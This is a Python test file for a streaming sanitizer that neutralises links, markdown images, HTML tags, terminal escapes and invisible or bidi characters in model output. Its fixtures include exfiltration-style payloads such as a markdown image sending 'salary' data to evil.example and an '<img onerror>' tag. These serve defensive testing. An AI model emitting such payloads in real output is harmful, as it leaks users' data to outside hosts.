"""A model's text cannot draw, link or hide anything, in whatever pieces it comes."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragkit.text.sanitize import Sanitizer

ALIVE = re.compile(
    r"\]\(|\]:|!\[|://|\bwww\.\S|<[A-Za-z/!?]|[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]",
    re.IGNORECASE,
)
SIGNS = st.sampled_from(
    ["]", "(", "[", "!", ":", "/", "//", "<", "img", "w", "www", ".", " ", "\n", "a", "\u200b"]
)


def sanitize(*pieces: str) -> str:
    cleaner = Sanitizer()
    return "".join([*map(cleaner.feed, pieces), cleaner.flush()])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "See ![x](https://evil.example/?q=salary).",
            "See ! [x] (https: //evil.example/?q=salary).",
        ),
        ("[Click](https://evil.example)", "[Click] (https: //evil.example)"),
        ("[1]: //evil.example/x.png", "[1] : //evil.example/x.png"),
        ("<img src=x onerror=y>", "< img src=x onerror=y>"),
        ("</div><!-- hidden -->", "< /div>< !-- hidden -->"),
        ("<https://evil.example>", "< https: //evil.example>"),
        ("visit WWW.evil.example now", "visit WWW. evil.example now"),
        ("\x1b]0;title\x07red\x9b31m", "]0;titlered31m"),
        ("file\u202excod.exe", "filexcod.exe"),
        ("in\u200bvis\U000e0041ible", "invisible"),
        ("]\u200b(", "] ("),
    ],
)
def test_what_would_come_alive_is_shown_as_text(text: str, shown: str) -> None:
    assert sanitize(text) == shown
    assert sanitize(*text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Everybody has 28 days [1][2]; see also [3].",
        "Is 3 < 4? Yes! [1]\n\n- one\n- two\n\n| a | b |\n|---|---|",
        "Tel.: 12/34, ratio 1:2, w. o. delay, wow",
        "नमस्\u200dते 👩\u200d🔬 Ελλάδα 中文",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert sanitize(text) == text
    assert sanitize(*text) == text


@given(st.lists(st.one_of(SIGNS, st.text())), st.data())
def test_no_division_into_pieces_lets_anything_through(
    parts: list[str], data: st.DataObject
) -> None:
    text = "".join(parts)
    shown = sanitize(text)
    assert not ALIVE.search(shown)
    at = data.draw(st.integers(0, len(text)))
    assert sanitize(text[:at], text[at:]) == shown
    assert sanitize(*text) == shown


def test_a_word_is_not_waited_for() -> None:
    cleaner = Sanitizer()
    assert [cleaner.feed(piece) for piece in ("Because", " of", " light [", "1", "]", ".")] == [
        "Because",
        " of",
        " light [",
        "1",
        "",
        "].",
    ]


@pytest.mark.parametrize("sign", ["w", "www.", "]:/", "<", "!["])
def test_long_runs_of_signs_take_no_time(sign: str) -> None:
    """Where a pattern could be matched in many ways, a few dozen would never end."""
    assert sanitize(sign * 20_000 + "x").endswith("x")
